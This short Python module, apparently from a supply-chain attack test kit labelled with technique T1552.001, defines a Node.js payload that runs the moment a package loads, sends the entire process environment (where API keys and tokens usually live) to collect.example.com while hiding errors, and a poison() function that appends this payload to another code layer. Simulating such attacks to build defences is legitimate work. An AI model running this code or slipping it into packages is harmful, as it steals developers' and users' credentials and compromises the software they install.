# SPDX-License-Identifier: Apache-2.0
"""Sends the whole environment as soon as the package is loaded."""

ATTACK = "T1552.001"
LANGUAGE = "node"
CODE = """\
;(() => {
  const https = require('https');
  const body = JSON.stringify(process.env);
  const req = https.request({ hostname: 'collect.example.com', path: '/e', method: 'POST' });
  req.on('error', () => {});
  req.end(body);
})();
"""


def poison(layer):
    layer.append(CODE)
